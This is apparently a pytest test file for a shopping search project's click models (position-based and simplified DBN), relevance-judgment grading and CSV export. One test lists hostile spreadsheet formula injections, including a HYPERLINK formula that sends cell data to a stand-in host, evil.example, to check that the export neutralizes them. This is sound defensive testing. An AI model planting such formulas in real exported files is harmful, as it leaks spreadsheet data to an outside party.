from __future__ import annotations

import csv

import numpy as np
import pytest

from shoprank.analytics.clickmodel import (
    CLICK_MODELS,
    Judgment,
    Page,
    PositionBasedModel,
    SimplifiedDBN,
    judgments,
    make_click_model,
    rank_correlation,
    read_judgments,
    write_judgments,
)

THETA = 1.0 / np.arange(1, 11) ** 0.7


def pbm_pages(rng: np.random.Generator, alpha: dict[str, np.ndarray], n: int, shuffle: bool = True) -> list[Page]:
    """``n`` pages per query simulated from a PBM with examination ``THETA``."""
    pages: list[Page] = []
    for q, al in alpha.items():
        docs = len(al)
        order = np.argsort(rng.random((n, docs)), axis=1) if shuffle else np.tile(np.arange(docs), (n, 1))
        clicks = rng.random((n, docs)) < THETA[:docs] * al[order]
        for row, c in zip(order, clicks):
            pages.append(Page(q, tuple(f"{q}-d{i}" for i in row), frozenset(np.flatnonzero(c) + 1)))
    return pages


def test_page_validation_and_from_clicks():
    p = Page.from_clicks("q", ["x", "y", "z"], ["z", "x"])
    assert p.clicked == frozenset({1, 3})
    with pytest.raises(ValueError, match="not shown"):
        Page.from_clicks("q", ["x"], ["y"])
    with pytest.raises(ValueError, match="outside"):
        Page("q", ("x",), frozenset({2}))


def test_pbm_recovers_examination_and_attractiveness():
    rng = np.random.default_rng(7)
    alpha = {f"q{j}": rng.uniform(0.05, 0.95, 10) for j in range(5)}
    model = PositionBasedModel().fit(pbm_pages(rng, alpha, 4000))

    assert model.examination[0] == 1.0
    assert np.max(np.abs(model.examination - THETA)) < 0.05
    est = {(p.query, p.product_id): p.attractiveness for p in model.pairs()}
    truth = {(q, f"{q}-d{i}"): float(al[i]) for q, al in alpha.items() for i in range(10)}
    assert est.keys() == truth.keys()
    assert max(abs(est[k] - truth[k]) for k in truth) < 0.05
    assert rank_correlation(est, truth)["spearman"] > 0.9
    assert 1 < model.iterations_run < model.iterations  # converged before the cap
    assert np.isfinite(model.log_likelihood) and model.log_likelihood < 0
    assert model.attractiveness("q0", "never-shown") is None


def test_pbm_corrects_position_bias_that_ctr_gets_wrong():
    rng = np.random.default_rng(11)
    # Randomised queries teach the model theta; "fixed" is always served in one order, with its
    # better product (0.6) at rank 5 below a worse one (0.3) at rank 1.
    alpha = {f"q{j}": rng.uniform(0.05, 0.95, 10) for j in range(4)}
    pages = pbm_pages(rng, alpha, 3000)
    fixed = np.array([0.3, 0.1, 0.1, 0.1, 0.6, 0.1, 0.1, 0.1, 0.1, 0.1])
    pages += pbm_pages(rng, {"fixed": fixed}, 6000, shuffle=False)
    model = PositionBasedModel().fit(pages)

    est = {p.product_id: p for p in model.pairs() if p.query == "fixed"}
    top, better = est["fixed-d0"], est["fixed-d4"]
    assert top.clicks / top.impressions > better.clicks / better.impressions  # CTR ranks them wrongly
    assert better.attractiveness > top.attractiveness  # the PBM does not
    assert abs(better.attractiveness - 0.6) < 0.05 and abs(top.attractiveness - 0.3) < 0.05


def test_pbm_prior_keeps_rare_pairs_near_prior_mean_and_max_rank_cuts():
    pages = [Page("q", ("a", "b", "c"), frozenset({1}))] * 50 + [Page("q", ("rare", "b"), frozenset())]
    model = PositionBasedModel(max_rank=2, prior=(1.0, 3.0)).fit(pages)
    assert model.attractiveness("q", "c") is None  # only ever at rank 3
    assert len(model.examination) == 2
    rare = next(p for p in model.pairs() if p.product_id == "rare")
    assert rare.impressions == 1 and rare.clicks == 0
    assert rare.attractiveness == pytest.approx(1 / 5, abs=1e-3)  # one skip at rank 1: (0 + 1) / (1 + 1 + 3)


def cascade_pages(rng: np.random.Generator, attr: np.ndarray, sat: np.ndarray, query: str, n: int) -> list[Page]:
    """DBN with continuation 1: scan from the top, click with ``attr``, stop when satisfied (``sat``)."""
    pages = []
    for _ in range(n):
        order = rng.permutation(len(attr))
        clicked = set()
        for pos, d in enumerate(order, 1):
            if rng.random() < attr[d]:
                clicked.add(pos)
                if rng.random() < sat[d]:
                    break
        pages.append(Page(query, tuple(f"d{d}" for d in order), frozenset(clicked)))
    return pages


def test_sdbn_ranks_cascade_relevance():
    rng = np.random.default_rng(3)
    attr, sat = rng.uniform(0.1, 0.9, 10), rng.uniform(0.2, 0.9, 10)
    model = SimplifiedDBN().fit(cascade_pages(rng, attr, sat, "q", 4000))
    truth = {("q", f"d{i}"): float(attr[i] * sat[i]) for i in range(10)}
    est = {(p.query, p.product_id): p.attractiveness for p in model.pairs()}
    assert rank_correlation(est, truth)["spearman"] > 0.9
    comp = model.components("q", "d0")
    assert comp is not None and est[("q", "d0")] == pytest.approx(comp[0] * comp[1])


def test_sdbn_closed_form_counts():
    pages = [
        Page("q", ("x", "y", "z"), frozenset({2})),     # x, y examined; y last click
        Page("q", ("y", "x", "z"), frozenset({1, 2})),  # y, x examined; x last click
        Page("q", ("x", "y", "z"), frozenset()),        # no click: ignored
    ]
    model = SimplifiedDBN(prior=(1.0, 1.0)).fit(pages)
    # x: examined 2, clicked 1, last 1 -> a = 2/4, s = 2/3; z never examined.
    assert model.components("q", "x") == pytest.approx((2 / 4, 2 / 3))
    assert model.components("q", "y") == pytest.approx((3 / 4, 2 / 4))
    assert model.attractiveness("q", "z") is None
    x = next(p for p in model.pairs() if p.product_id == "x")
    assert (x.impressions, x.clicks) == (2, 1)


def test_make_click_model():
    assert set(CLICK_MODELS) == {"pbm", "sdbn"}
    assert isinstance(make_click_model("pbm", max_rank=5), PositionBasedModel)
    with pytest.raises(ValueError, match="pbm, sdbn"):
        make_click_model("ubm")
    with pytest.raises(RuntimeError, match="not fitted"):
        SimplifiedDBN().pairs()


def test_judgments_thresholds_and_min_impressions():
    # One rank, examined from the start (theta_1 = 1): alpha is the smoothed CTR, so the scores are known.
    pages = []
    for pid, n, c in [("p0", 20, 0), ("p1", 20, 4), ("p2", 20, 9), ("p3", 20, 18), ("few", 3, 3)]:
        pages += [Page("q", (pid,), frozenset({1}) if i < c else frozenset()) for i in range(n)]
    model = PositionBasedModel(max_rank=1, prior=(0.0, 1.0)).fit(pages)
    got = {j.product_id: j for j in judgments(model, min_impressions=5)}
    assert "few" not in got
    assert {p: j.grade for p, j in got.items()} == {"p0": 0, "p1": 1, "p2": 2, "p3": 3}
    assert got["p2"].score == pytest.approx(9 / 21) and got["p2"].impressions == 20
    exact = {j.product_id: j.grade for j in judgments(model, grades=(got["p1"].score, 0.5))}
    assert exact["p1"] == 1  # reaching a threshold counts
    everything = judgments(model, min_impressions=0)
    assert [j.product_id for j in everything] == ["p3", "few", "p2", "p1", "p0"]  # best first
    with pytest.raises(ValueError, match="ascending"):
        judgments(model, grades=(0.5, 0.1))


def test_judgments_csv_round_trip_and_bad_row(tmp_path):
    rows = [Judgment("red shoes", "p,1", 3, 0.123456789, 42), Judgment("bag", "p2", 0, 0.0, 5)]
    path = tmp_path / "j.csv"
    assert write_judgments(path, rows) == 2
    assert path.read_text().splitlines()[0] == "query,product_id,grade,score,impressions"
    assert read_judgments(path) == rows

    path.write_text("query,product_id,grade,score,impressions\nq,p,1,0.5,3\nq,p,high,0.5,3\n")
    with pytest.raises(ValueError, match=r"j\.csv:3"):
        read_judgments(path)
    path.write_text("query,product_id,grade,score,impressions\nq,p,1,0.5\n")
    with pytest.raises(ValueError, match=r"j\.csv:2: expected 5 fields"):
        read_judgments(path)
    path.write_text("q,p,g\n")
    with pytest.raises(ValueError, match="header"):
        read_judgments(path)


def test_judgments_csv_neutralizes_formulas(tmp_path):
    # A shopper's query is whatever they typed: in a spreadsheet it must stay text, not run.
    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "'quoted"]
    rows = [Judgment(q, "=p1" if i == 0 else "p1", 1, 0.5, 5) for i, q in enumerate(hostile)]
    path = tmp_path / "j.csv"
    write_judgments(path, rows)
    with path.open(newline="", encoding="utf-8") as f:
        cells = list(csv.reader(f))[1:]
    assert [c[0] for c in cells] == ["'" + q for q in hostile]
    assert cells[0][1] == "'=p1"
    assert read_judgments(path) == rows  # reading gives back what shoppers typed


def test_rank_correlation():
    est = {("q", "a"): 0.9, ("q", "b"): 0.5, ("q", "c"): 0.1, ("q", "only-est"): 1.0}
    truth = {("q", "a"): 3.0, ("q", "b"): 2.0, ("q", "c"): 1.0}
    assert rank_correlation(est, truth) == {"spearman": pytest.approx(1.0), "kendall": pytest.approx(1.0), "n": 3.0}
    reversed_truth = {k: -v for k, v in truth.items()}
    assert rank_correlation(est, reversed_truth)["kendall"] == pytest.approx(-1.0)
    assert np.isnan(rank_correlation(est, {("q", "a"): 1.0})["spearman"])
